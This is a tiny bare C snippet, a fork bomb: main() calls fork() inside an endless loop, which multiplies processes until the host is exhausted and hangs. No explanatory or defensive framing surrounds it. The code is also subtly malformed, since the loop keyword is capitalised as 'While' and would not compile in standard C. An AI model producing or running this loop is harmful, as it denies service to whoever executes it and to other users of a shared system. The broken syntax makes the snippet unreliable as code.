int main() {
  While(true) fork();
  return 0;
}
